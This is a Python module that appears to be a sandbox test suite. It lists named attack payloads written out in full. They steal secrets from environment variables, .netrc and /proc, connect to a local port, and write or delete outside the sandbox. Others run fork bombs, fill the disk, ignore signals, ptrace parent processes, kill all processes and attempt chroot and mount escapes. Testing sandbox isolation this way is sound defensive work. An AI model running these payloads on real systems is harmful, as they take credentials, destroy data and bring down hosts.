"""Reach something outside, or use up the machine.

`@PORT@` is a port on which someone listens outside, `@OUTSIDE@` a folder there, `@MARK@` a word to be found in the command
line of what survives.
"""

from __future__ import annotations

from .attack import Attack, at_import, attacks, in_mean

_SECRETS = """
import glob, os
found = [repr(dict(os.environ))]
places = ["@OUTSIDE@/secret.txt", *map(os.path.expanduser, ("~/secret.txt", "~root/.netrc"))]
places += glob.glob("/proc/*/environ")
for place in places:
    try:
        found.append(open(place, "rb").read().decode("latin-1"))
    except OSError:
        pass
open("found.txt", "w").write("".join(found))
raise RuntimeError("".join(found))
"""
_CONNECT = """
import socket
socket.create_connection(("127.0.0.1", @PORT@), timeout=1).sendall(b"hello")
"""
_CONNECT_BY_PROXY = """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:@PORT@/leak", timeout=1).read()
"""
_DAEMON = """
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3):
            os.close(number)
        code = "import time; open('@OUTSIDE@/daemon.txt', 'w').write('x') if False else None; time.sleep(60)"
        os.execv(sys.executable, [sys.executable, "-c", code, "@MARK@"])
    os._exit(0)
os.wait()
"""
_MANY_DAEMONS = """
import subprocess, sys
for number in range(5):
    subprocess.Popen([sys.executable, "-c", "import signal, time\\nfor s in (1, 2, 15): signal.signal(s, 1)\\ntime.sleep(60)",
        "@MARK@"], start_new_session=True)
"""
_WRITE = """
import os
for place in ("@OUTSIDE@/written.txt", "@OUTSIDE@/../written.txt", "/etc/written-@MARK@", "/usr/written-@MARK@"):
    try:
        open(place, "w").write("x")
    except OSError:
        pass
raise ValueError
"""
_SYMLINK = """
import os
os.symlink("@OUTSIDE@", "link")
os.symlink("/", "root")
for place in ("link/linked.txt", "root@OUTSIDE@/linked.txt"):
    try:
        open(place, "w").write("x")
    except OSError:
        pass
raise ValueError
"""
_HARD_LINK = """
import os
for source in ("@OUTSIDE@/secret.txt", "/etc/passwd"):
    try:
        os.link(source, "linked.txt")
        open("linked.txt", "a").write("x")
    except OSError:
        pass
raise ValueError
"""
_REMOVE = """
import os, shutil
for place in ("@OUTSIDE@", os.getcwd(), "/tmp"):
    shutil.rmtree(place, ignore_errors=True)
raise ValueError
"""
_ENDLESS = """
import os, signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
_SLEEPS = """
import time
real, time.time, time.monotonic = time.monotonic, lambda: 0.0, lambda: 0.0
end = real() + 60
while real() < end:
    try:
        time.sleep(1)
    except BaseException:
        pass
"""
_MEMORY = "hold = []\nwhile True:\n    hold.append(bytearray(64 << 20))"
_FORKS = """
import os, time
for _ in range(300):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
"""
_FLOOD = (
    "import os\nfor _ in range(3000):\n    os.write(1, b'x' * 65536)\n    os.write(2, b'x' * 65536)"
)
_FLOOD_CHANNEL = """
import os, stat
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            while True:
                os.write(number, b"x" * 65536)
    except OSError:
        pass
"""
_DISK = """
import os
for place in (".", "/tmp", "/dev/shm"):
    try:
        with open(place + "/filled", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
raise ValueError
"""
_TRACE_PARENT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = []
for pid in (os.getppid(), 1, @PID@):
    if libc.ptrace(16, pid, 0, 0) == 0:
        done.append("ptrace")
    word = ctypes.create_string_buffer(8)
    one = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
    other = (ctypes.c_void_p * 2)(id(None), 8)
    if libc.process_vm_readv(pid, one, 1, other, 1, 0) > 0:
        done.append("process_vm_readv")
    try:
        open(f"/proc/{pid}/mem", "r+b").close()
        done.append("mem" if pid != os.getpid() else "")
    except OSError:
        pass
open("done.txt", "w").write(repr(done))
raise ValueError(f"REACHED {done}" if done else "nothing")
"""
_OTHER_PROCESSES = """
import glob, os
lines = []
for place in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        lines.append(open(place, "rb").read().decode("latin-1"))
    except OSError:
        pass
seen = [line for line in lines if "@MARK@" in line]
raise ValueError(f"REACHED {seen}" if seen or os.path.exists("/proc/@PID@/cmdline") and @PID@ > 1000 else "nothing")
"""
_KILL_ALL = """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except OSError:
        pass
"""
_KILL_PARENTS = """
import os
for pid in (@PID@, os.getppid(), 1):
    try:
        os.kill(pid, 9)
    except OSError:
        pass
raise ValueError
"""
_DESCRIPTORS = """
import glob, os
reached = []
for place in glob.glob("/proc/[0-9]*/fd/*"):
    pid = int(place.split("/")[2])
    if pid != os.getpid():
        try:
            os.close(os.open(place, os.O_RDWR | os.O_NONBLOCK))
            reached.append(place)
        except OSError:
            pass
raise ValueError(f"REACHED {reached}" if reached else "nothing")
"""
_MOUNT = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
done = [libc.unshare(0x10000000), libc.mount(b"none", b"/", None, 1 << 18, None), libc.umount2(b"/tmp", 2), libc.chroot(b"/")]
raise ValueError("REACHED" if 0 in done else "nothing")
"""

ATTACKS: tuple[Attack, ...] = (
    *attacks(
        "side effects",
        {
            "read-secrets": in_mean(_SECRETS),
            "read-secrets-at-import": at_import(_SECRETS),
            "connect-out": in_mean(_CONNECT),
            "connect-out-at-import": at_import(_CONNECT_BY_PROXY),
            "write-outside": in_mean(_WRITE),
            "write-through-link": in_mean(_SYMLINK),
            "write-through-hard-link": in_mean(_HARD_LINK),
            "remove-everything": in_mean(_REMOVE),
            "surviving-daemon": in_mean(_DAEMON),
            "surviving-children": in_mean(_MANY_DAEMONS),
            "ignore-signals": in_mean(_ENDLESS),
            "patched-clock": in_mean(_SLEEPS),
            "memory": in_mean(_MEMORY),
            "forks": in_mean(_FORKS),
            "flood-output": in_mean(_FLOOD),
            "flood-channel": in_mean(_FLOOD_CHANNEL),
            "fill-disk": in_mean(_DISK),
            "trace-parent": in_mean(_TRACE_PARENT),
            "see-other-processes": in_mean(_OTHER_PROCESSES),
            "kill-all": in_mean(_KILL_ALL),
            "kill-parents": in_mean(_KILL_PARENTS),
            "descriptors-of-others": in_mean(_DESCRIPTORS),
            "mount": in_mean(_MOUNT),
        },
        harmless=False,
    ),
)
